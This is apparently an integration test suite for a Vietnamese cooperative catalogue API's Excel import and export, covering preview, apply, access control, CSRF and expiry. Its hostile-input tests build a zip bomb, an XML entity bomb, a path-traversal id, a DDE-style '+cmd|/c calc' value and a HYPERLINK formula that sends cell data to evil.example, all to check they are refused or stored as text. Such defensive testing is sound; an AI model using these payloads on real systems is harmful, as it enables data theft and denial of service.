import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { randomBytes } from 'node:crypto';
import { Pool } from 'pg';
import { DataSource } from 'typeorm';
import { StockLedger } from '@ocop/catalogue';
import { type Answer, type RunningApi, startApi } from '../support/api';
import { newCooperative, newKey, newProduct, uniqueCode } from '../support/factories';
import { type Cell, HEADERS, twoHundredRows, workbook, XLSX } from '../support/spreadsheets';

/**
 * Issue 14, "Spreadsheet import/export", over real HTTP and PostgreSQL: the catalogue out as .xlsx
 * and back in through a preview that writes nothing, applied whole or not at all.
 */
async function readBook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  return book;
}

describe('catalogue spreadsheets: export, template, import with preview and apply', () => {
  let api: RunningApi;
  let coop: Awaited<ReturnType<typeof newCooperative>>;
  let other: Awaited<ReturnType<typeof newCooperative>>;
  let officer: string;

  beforeAll(async () => {
    api = await startApi();
    coop = await newCooperative(api);
    other = await newCooperative(api);
    officer = await newKey(api, 'officer');
  });
  afterAll(() => api.close());

  const upload = (key: string, bytes: Buffer, query = '') =>
    api.call('POST', `/v1/catalogue/imports${query}`, { key, raw: bytes, headers: { 'content-type': XLSX } });

  async function allProducts(key: string, cooperativeId: string) {
    const items: any[] = [];
    let cursor: string | null = null;
    do {
      const page: any = await api.call(
        'GET',
        `/v1/products?cooperativeId=${cooperativeId}&limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
        { key },
      );
      expect(page.status).toBe(200);
      items.push(...page.body.items);
      cursor = page.body.nextCursor;
    } while (cursor);
    return items;
  }
  const skusOf = (products: any[]) =>
    new Map<string, any>(products.flatMap((p) => p.skus.map((s: any) => [s.code, { ...s, product: p }])));

  it('previews a 200-row file naming exactly its 3 bad rows, writes nothing, then applies the 197 good ones', async () => {
    const shop = await newCooperative(api);
    const existing = await newProduct(api, shop, {
      name: 'Chè tôm nõn Hảo Đạt',
      skus: [
        { code: uniqueCode('E1'), name: 'Hộp 100g', priceVnd: 120000, weightGrams: 100, onHand: 10 },
        { code: uniqueCode('E2'), name: 'Túi 500g', priceVnd: 500000, weightGrams: 500, onHand: 4 },
      ],
    });
    const [e1, e2] = existing.skus;
    const prefix = uniqueCode('N');
    const rows = twoHundredRows(existing, prefix);
    expect(rows).toHaveLength(200);

    const before = await allProducts(shop.key, shop.id);
    const preview = await upload(shop.key, await workbook(rows));
    expect(preview.status).toBe(201);
    expect(preview.body.counts).toEqual({ new: 195, changed: 1, unchanged: 1, refused: 3 });
    expect(preview.body.rows).toHaveLength(200);
    const refused = preview.body.rows.filter((r: any) => r.status === 'refused');
    expect(refused.map((r: any) => r.row)).toEqual([50, 120, 201]);
    expect(refused[0].reason).toMatch(/Thiếu tên sản phẩm/);
    expect(refused[1].reason).toMatch(/Giá bán phải là số nguyên/);
    expect(refused[2].reason).toMatch(/Danh mục "khong-co-danh-muc" không có/);
    const changed = preview.body.rows.find((r: any) => r.skuCode === e1.code);
    expect(changed).toMatchObject({ row: 2, status: 'changed' });
    expect(changed.changes).toEqual([
      { field: 'priceVnd', old: 120000, new: 135000 },
      { field: 'onHand', old: 10, new: 25 },
    ]);
    expect(preview.body.rows.find((r: any) => r.skuCode === e2.code)).toMatchObject({
      status: 'unchanged',
      changes: [],
    });

    // nothing is written by a preview
    expect(await allProducts(shop.key, shop.id)).toEqual(before);

    const applied = await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, {
      key: shop.key,
    });
    expect(applied.status).toBe(200);
    expect(applied.body.counts).toEqual(preview.body.counts);

    const after = await allProducts(shop.key, shop.id);
    expect(after).toHaveLength(1 + 20);
    const skus = skusOf(after);
    expect(skus.size).toBe(2 + 195);
    expect(skus.get(e1.code)).toMatchObject({ priceVnd: 135000, onHand: 25, name: 'Hộp 100g' });
    expect(skus.get(e2.code)).toMatchObject({ priceVnd: 500000, onHand: 4 });
    for (let i = 0; i < 195; i += 1) {
      const sku = skus.get(`${prefix}-${i}`);
      expect(sku).toMatchObject({
        priceVnd: 150000,
        weightGrams: 500,
        onHand: i % 3,
        safetyStock: 1,
        name: 'Chai 500ml',
      });
      expect(sku.product).toMatchObject({
        name: `Mật ong rừng ${prefix} ${Math.floor(i / 10)}`,
        category: 'honey',
        status: 'active',
        imageUrls: ['https://example.vn/a.jpg', 'https://example.vn/b.jpg'],
      });
    }
    for (const bad of ['bad-1', 'bad-2', 'bad-3']) expect(skus.has(`${prefix}-${bad}`)).toBe(false);
    // what the import wrote names whoever applied it, as a form's edit would
    const applier = { kind: 'key', id: shop.keyId, name: 'test' };
    expect(skus.get(`${prefix}-0`)).toMatchObject({ createdBy: applier, updatedBy: applier });
    expect(skus.get(`${prefix}-0`).product).toMatchObject({ createdBy: applier, updatedBy: applier });
    expect(skus.get(e1.code)).toMatchObject({ updatedBy: applier });

    // the on-hand figure went through the ledger, as a stock take by whoever applied it
    const movements = await api.call('GET', `/v1/skus/${e1.id}/stock-movements?limit=1`, { key: shop.key });
    expect(movements.body.items[0]).toMatchObject({
      kind: 'stock_take',
      reason: 'Nhập từ Excel',
      onHandDelta: 15,
      onHandAfter: 25,
      actor: { kind: 'key', id: shop.keyId },
    });

    // applying twice is refused
    const again = await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, { key: shop.key });
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('conflict');
  });

  it('exports the catalogue with Vietnamese headers, and re-importing the export changes nothing', async () => {
    await newProduct(api, coop, {
      name: 'Chè Tân Cương đặc biệt',
      description: 'Chè búp',
      imageUrls: ['https://example.vn/che.jpg', 'http://example.vn/che-2.jpg'],
      skus: [
        { code: uniqueCode('TC'), name: 'Hộp 100g', priceVnd: 120000, weightGrams: 100, onHand: 7 },
        { code: uniqueCode('TC'), name: 'Hộp 200g', priceVnd: 230000, weightGrams: 200 },
      ],
    });
    const archived = await newProduct(api, coop, { name: 'Miến dong', category: 'tea' });
    await api.call('PATCH', `/v1/products/${archived.id}`, { key: coop.key, body: { status: 'archived' } });

    const exported = await api.call('GET', '/v1/catalogue/export.xlsx', { key: coop.key });
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toBe(XLSX);
    expect(exported.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+\.xlsx"$/);
    const book = await readBook(exported.bytes);
    const sheet = book.worksheets[0]!;
    expect((sheet.getRow(1).values as Cell[]).slice(1)).toEqual(HEADERS);
    expect(sheet.rowCount).toBe(1 + 3);
    expect((sheet.getRow(4).values as Cell[]).slice(1)).toEqual([
      'Miến dong',
      'tea',
      undefined,
      undefined,
      archived.skus[0].code,
      'Hộp 100g',
      120000,
      100,
      10,
      0,
      'Lưu trữ',
    ]);

    const reimport = await upload(coop.key, exported.bytes);
    expect(reimport.status).toBe(201);
    expect(reimport.body.counts).toEqual({ new: 0, changed: 0, unchanged: 3, refused: 0 });
    expect(reimport.body.rows.every((r: any) => r.changes.length === 0)).toBe(true);

    // an officer and an admin export a named cooperative's catalogue; both must name it
    expect(
      (await api.call('GET', `/v1/catalogue/export.xlsx?cooperativeId=${coop.id}`, { key: officer })).status,
    ).toBe(200);
    const unnamed = await api.call('GET', '/v1/catalogue/export.xlsx', { key: api.adminKey });
    expect(unnamed.status).toBe(400);
    expect(unnamed.body.error).toMatchObject({
      code: 'validation_failed',
      details: [{ field: 'cooperativeId' }],
    });
    // a cooperative cannot export another's
    const foreign = await api.call('GET', `/v1/catalogue/export.xlsx?cooperativeId=${other.id}`, {
      key: coop.key,
    });
    expect(foreign.status).toBe(404);
  });

  it('serves a blank template with the headers and a sheet of instructions listing the categories', async () => {
    const template = await api.call('GET', '/v1/catalogue/template.xlsx', { key: officer });
    expect(template.status).toBe(200);
    expect(template.headers.get('content-type')).toBe(XLSX);
    const book = await readBook(template.bytes);
    expect(book.worksheets.map((s) => s.name)).toEqual(['Sản phẩm (products)', 'Hướng dẫn (instructions)']);
    expect((book.worksheets[0]!.getRow(1).values as Cell[]).slice(1)).toEqual(HEADERS);
    expect(book.worksheets[0]!.rowCount).toBe(1);
    const help: string[] = [];
    book.worksheets[1]!.eachRow((row) => help.push((row.values as Cell[]).slice(1).join(' | ')));
    for (const header of HEADERS) expect(help.some((line) => line.startsWith(header))).toBe(true);
    expect(help).toContain('tea | Chè, trà | Tea');

    // the template, filled in, imports
    const filled = await workbook([
      ['Mật ong bạc hà', 'honey', null, null, uniqueCode('T'), 'Chai 250ml', 90000, 250, 5, null, null],
    ]);
    const preview = await upload(coop.key, filled);
    expect(preview.body.counts).toEqual({ new: 1, changed: 0, unchanged: 0, refused: 0 });
  });

  it('refuses to apply when the catalogue changed since the preview, and writes nothing', async () => {
    const shop = await newCooperative(api);
    const product = await newProduct(api, shop, {
      skus: [
        { code: uniqueCode('C1'), name: 'Hộp 100g', priceVnd: 100000, weightGrams: 100, onHand: 3 },
        { code: uniqueCode('C2'), name: 'Hộp 200g', priceVnd: 190000, weightGrams: 200, onHand: 3 },
      ],
    });
    const [c1, c2] = product.skus;
    const row = (sku: any, price: number): Cell[] => [
      product.name,
      'tea',
      null,
      null,
      sku.code,
      sku.name,
      price,
      sku.weightGrams,
      sku.onHand,
      0,
      null,
    ];
    const newCode = uniqueCode('C3');
    const preview = await upload(
      shop.key,
      await workbook([
        row(c1, 110000),
        row(c2, 190000),
        [product.name, 'tea', null, null, newCode, 'Gói', 1000, 10, 2, 0, null],
      ]),
    );
    expect(preview.body.counts).toEqual({ new: 1, changed: 1, unchanged: 1, refused: 0 });
    // the row the preview saw unchanged changes meanwhile
    const edit = await api.call('PATCH', `/v1/skus/${c2.id}`, { key: shop.key, body: { priceVnd: 200000 } });
    expect(edit.status).toBe(200);
    const applied = await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, {
      key: shop.key,
    });
    expect(applied.status).toBe(409);
    expect(applied.body.error.message).toMatch(/changed since the preview/);
    const now = skusOf(await allProducts(shop.key, shop.id));
    expect(now.get(c1.code).priceVnd).toBe(100000);
    expect(now.has(newCode)).toBe(false);
  });

  it('refuses to apply when orders reserved more meanwhile than a row sets on hand', async () => {
    const shop = await newCooperative(api);
    const product = await newProduct(api, shop);
    const [sku] = product.skus;
    const preview = await upload(
      shop.key,
      await workbook([[product.name, 'tea', null, null, sku.code, sku.name, 99000, 100, 5, 0, null]]),
    );
    expect(preview.body.rows[0].changes).toEqual([
      { field: 'priceVnd', old: 120000, new: 99000 },
      { field: 'onHand', old: 10, new: 5 },
    ]);
    const dataSource = api.app.get(DataSource);
    await dataSource.transaction((manager) =>
      api.app
        .get(StockLedger)
        .apply(manager, sku.id, { reservedDelta: 8 }, { kind: 'order', reason: 'an order meanwhile' }),
    );
    const applied = await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, {
      key: shop.key,
    });
    expect(applied.status).toBe(409);
    const [now] = await allProducts(shop.key, shop.id);
    expect(now.skus[0]).toMatchObject({ priceVnd: 120000, onHand: 10, reserved: 8 });
  });

  it('keeps other cooperatives out and officers from importing', async () => {
    const preview = await upload(coop.key, await workbook([]));
    expect(preview.status).toBe(201);
    expect(preview.body).toMatchObject({
      counts: { new: 0, changed: 0, unchanged: 0, refused: 0 },
      rows: [],
    });
    const foreign = await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, {
      key: other.key,
    });
    expect(foreign.status).toBe(404);
    expect(foreign.body.error.code).toBe('not_found');
    const byOfficer = await upload(officer, await workbook([]), `?cooperativeId=${coop.id}`);
    expect(byOfficer.status).toBe(403);
    expect(
      (await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, { key: officer })).status,
    ).toBe(403);
    // an admin imports for a named cooperative
    expect((await upload(api.adminKey, await workbook([]), `?cooperativeId=${coop.id}`)).status).toBe(201);
    expect((await upload(api.adminKey, await workbook([]))).status).toBe(400);
    expect((await upload(coop.key, await workbook([]), `?cooperativeId=${other.id}`)).status).toBe(404);
    // and the admin may apply the cooperative's preview
    expect(
      (await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, { key: api.adminKey }))
        .status,
    ).toBe(200);
  });

  it('takes an upload and an apply from a signed-in person only with the CSRF token, and never another cooperative’s', async () => {
    const email = `${uniqueCode('nhap').toLowerCase()}@htx.example`;
    const password = 'mat-khau-nhap-excel-2026';
    const made = await api.call('POST', '/v1/users', {
      key: api.adminKey,
      body: { email, name: 'Lê Văn Nhập', role: 'cooperative', cooperativeId: coop.id, password },
    });
    expect(made.status).toBe(201);
    const signedIn = await api.call('POST', '/v1/sessions', { body: { email, password } });
    const cookie = (signedIn.headers.get('set-cookie') ?? '').split(';')[0]!;
    const csrf = (await api.call('GET', '/v1/me', { headers: { cookie } })).body.csrfToken as string;
    const bytes = await workbook([]);
    const asPerson = (path: string, headers: Record<string, string> = {}, raw?: Buffer) =>
      api.call('POST', path, {
        raw,
        headers: { cookie, ...(raw ? { 'content-type': XLSX } : {}), ...headers },
      });

    // a cookie write without the token: refused, and nothing stored
    const forged = await asPerson('/v1/catalogue/imports', {}, bytes);
    expect(forged.status).toBe(403);
    expect(forged.body.error.code).toBe('forbidden');
    const preview = await asPerson('/v1/catalogue/imports', { 'x-csrf-token': csrf }, bytes);
    expect(preview.status).toBe(201);
    expect((await asPerson(`/v1/catalogue/imports/${preview.body.id}/apply`)).status).toBe(403);
    // another cooperative's preview, and an id spelt to escape its path segment
    const theirs = await upload(other.key, bytes);
    expect(
      (await asPerson(`/v1/catalogue/imports/${theirs.body.id}/apply`, { 'x-csrf-token': csrf })).status,
    ).toBe(404);
    const encoded = await asPerson(`/v1/catalogue/imports/..%2F${preview.body.id}/apply`, {
      'x-csrf-token': csrf,
    });
    expect([400, 404]).toContain(encoded.status);
    expect(typeof encoded.body.error.code).toBe('string');
    expect(
      (await asPerson(`/v1/catalogue/imports/${preview.body.id}/apply`, { 'x-csrf-token': csrf })).status,
    ).toBe(200);
  });

  it('an expired preview is refused, and deleted a day later', async () => {
    const db = new Pool({ connectionString: process.env.DATABASE_URL, max: 1 });
    try {
      const first = await upload(coop.key, await workbook([]));
      const second = await upload(coop.key, await workbook([]));
      expect(Date.parse(first.body.expiresAt) - Date.now()).toBeGreaterThan(59 * 60 * 1000);
      await db.query(`UPDATE catalogue_imports SET expires_at = now() - interval '1 minute' WHERE id = $1`, [
        first.body.id,
      ]);
      await db.query(`UPDATE catalogue_imports SET expires_at = now() - interval '25 hours' WHERE id = $1`, [
        second.body.id,
      ]);
      const expired = await api.call('POST', `/v1/catalogue/imports/${first.body.id}/apply`, {
        key: coop.key,
      });
      expect(expired.status).toBe(409);
      expect(expired.body.error.message).toMatch(/expired/);
      await upload(coop.key, await workbook([]));
      const { rows } = await db.query(`SELECT id FROM catalogue_imports WHERE id = ANY($1::uuid[])`, [
        [first.body.id, second.body.id],
      ]);
      expect(rows).toEqual([{ id: first.body.id }]);
      expect(
        (await api.call('POST', `/v1/catalogue/imports/${second.body.id}/apply`, { key: coop.key })).status,
      ).toBe(404);
    } finally {
      await db.end();
    }
  });

  describe('hostile input', () => {
    const expectError = (answer: Answer, status: number, code: string) => {
      expect({ status: answer.status, code: answer.body?.error?.code }).toEqual({ status, code });
      expect(answer.body.error.message).toEqual(expect.any(String));
    };

    it('a body over 5 MiB → 413 in the error shape', async () => {
      expectError(await upload(coop.key, randomBytes(6 * 1024 * 1024)), 413, 'payload_too_large');
    });

    it('random bytes, JSON, text, a truncated or a non-workbook zip → 4xx with a clear message', async () => {
      const garbage = await upload(coop.key, randomBytes(4096));
      expectError(garbage, 400, 'bad_request');
      expect(garbage.body.error.message).toMatch(/not an \.xlsx workbook/);
      expectError(
        await api.call('POST', '/v1/catalogue/imports', { key: coop.key, body: { rows: [] } }),
        415,
        'unsupported_media_type',
      );
      expectError(
        await api.call('POST', '/v1/catalogue/imports', {
          key: coop.key,
          raw: 'a,b,c',
          headers: { 'content-type': 'text/csv' },
        }),
        415,
        'unsupported_media_type',
      );
      const good = await workbook([]);
      expectError(await upload(coop.key, good.subarray(0, good.length - 200)), 400, 'bad_request');
      const zip = new JSZip();
      zip.file('hello.txt', 'xin chào');
      expectError(
        await upload(coop.key, await zip.generateAsync({ type: 'nodebuffer' })),
        400,
        'bad_request',
      );
      expectError(await upload(coop.key, Buffer.alloc(0)), 400, 'bad_request');
      // a JSON route refuses a spreadsheet body, even one of 5 MiB, without reading it as an object
      for (const raw of [good, randomBytes(5 * 1024 * 1024 - 10)]) {
        const answer = await api.call('POST', '/v1/products', {
          key: coop.key,
          raw,
          headers: { 'content-type': XLSX },
        });
        expectError(answer, 415, 'unsupported_media_type');
      }
    });

    it('a zip bomb is refused before it is inflated whole', async () => {
      const zip = await JSZip.loadAsync(await workbook([]));
      zip.file('xl/media/image1.png', Buffer.alloc(64 * 1024 * 1024));
      const bomb = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
      expect(bomb.length).toBeLessThan(MAX_UPLOAD);
      const answer = await upload(coop.key, bomb);
      expectError(answer, 400, 'bad_request');
      expect(answer.body.error.message).toMatch(/decompresses to more than/);
    });

    it('an XML entity bomb in a sheet is refused, never expanded', async () => {
      const zip = await JSZip.loadAsync(
        await workbook([['Chè', 'tea', null, null, 'LOL', 'Hộp', 1, 1, 0, 0, null]]),
      );
      const entities = Array.from(
        { length: 8 },
        (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
      ).join('');
      const path = 'xl/worksheets/sheet1.xml';
      const xml = (await zip.file(path)!.async('string'))
        .replace('?>', `?><!DOCTYPE x [<!ENTITY l0 "lollollollol">${entities}]>`)
        .replace(/<c r="A2"[^>]*>.*?<\/c>/, '<c r="A2" t="inlineStr"><is><t>&l8;</t></is></c>');
      zip.file(path, xml);
      const answer = await upload(coop.key, await zip.generateAsync({ type: 'nodebuffer' }));
      expectError(answer, 400, 'bad_request');
      expect(answer.body.error.message).toMatch(/not a readable \.xlsx/);
    });

    it('a huge sheet dimension reads only the rows there are; over 5,000 rows is refused', async () => {
      const book = new ExcelJS.Workbook();
      const sheet = book.addWorksheet('Sản phẩm');
      sheet.addRow(HEADERS);
      sheet.getCell('XFD1048576').value = 'x';
      sheet.getCell('E1048576').value = 'FAR-AWAY';
      const far = await upload(coop.key, Buffer.from(await book.xlsx.writeBuffer()));
      expect(far.status).toBe(201);
      expect(far.body.rows).toEqual([
        expect.objectContaining({ row: 1048576, skuCode: 'FAR-AWAY', status: 'refused' }),
      ]);
      const many = Array.from({ length: 5001 }, (_, i): Cell[] => [
        'x',
        'tea',
        null,
        null,
        `M-${i}`,
        'x',
        1,
        1,
        0,
        0,
        null,
      ]);
      const tooMany = await upload(coop.key, await workbook(many));
      expectError(tooMany, 400, 'bad_request');
      expect(tooMany.body.error.message).toMatch(/more than 5000 rows/);
    });

    it('formula cells are read as their cached values, never computed', async () => {
      const code = uniqueCode('F');
      const preview = await upload(
        coop.key,
        await workbook([
          [
            { formula: 'CONCAT("Mật ong ","hoa nhãn")', result: 'Mật ong hoa nhãn' },
            'honey',
            null,
            null,
            code,
            'Chai',
            { formula: '1+1', result: 99000 },
            { formula: 'SUM(A1:A2)' } as Cell,
            1,
            0,
            null,
          ],
        ]),
      );
      expect(preview.status).toBe(201);
      const [row] = preview.body.rows;
      // the weight's formula has no cached value: the row is refused, saying so
      expect(row).toMatchObject({ status: 'refused', productName: 'Mật ong hoa nhãn' });
      expect(row.reason).toMatch(/Khối lượng: ô có lỗi là công thức chưa có giá trị/);
      const fixed = await upload(
        coop.key,
        await workbook([
          [
            { formula: 'CONCAT("Mật ong ","hoa nhãn")', result: 'Mật ong hoa nhãn' },
            'honey',
            null,
            null,
            code,
            'Chai',
            { formula: '1+1', result: 99000 },
            500,
            1,
            0,
            null,
          ],
        ]),
      );
      expect(fixed.body.rows[0].changes).toEqual(
        expect.arrayContaining([
          { field: 'productName', old: null, new: 'Mật ong hoa nhãn' },
          { field: 'priceVnd', old: null, new: 99000 },
        ]),
      );
    });

    it('a formula-looking name is stored as text and exported as text, never as a formula', async () => {
      const shop = await newCooperative(api);
      const name = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
      const code = uniqueCode('INJ');
      const preview = await upload(
        shop.key,
        await workbook([[name, 'tea', '+cmd|/c calc', null, code, '@SUM(1)', 1000, 10, 1, 0, null]]),
      );
      expect(preview.body.counts.new).toBe(1);
      expect(
        (await api.call('POST', `/v1/catalogue/imports/${preview.body.id}/apply`, { key: shop.key })).status,
      ).toBe(200);
      const [product] = await allProducts(shop.key, shop.id);
      expect(product).toMatchObject({ name, description: '+cmd|/c calc', skus: [{ code, name: '@SUM(1)' }] });

      const exported = await api.call('GET', '/v1/catalogue/export.xlsx', { key: shop.key });
      const sheetXml = await (
        await JSZip.loadAsync(exported.bytes)
      )
        .file('xl/worksheets/sheet1.xml')!
        .async('string');
      expect(sheetXml).not.toMatch(/<f[ >]/);
      const cell = (await readBook(exported.bytes)).worksheets[0]!.getCell('A2');
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(name);
    });
  });
});

const MAX_UPLOAD = 5 * 1024 * 1024;
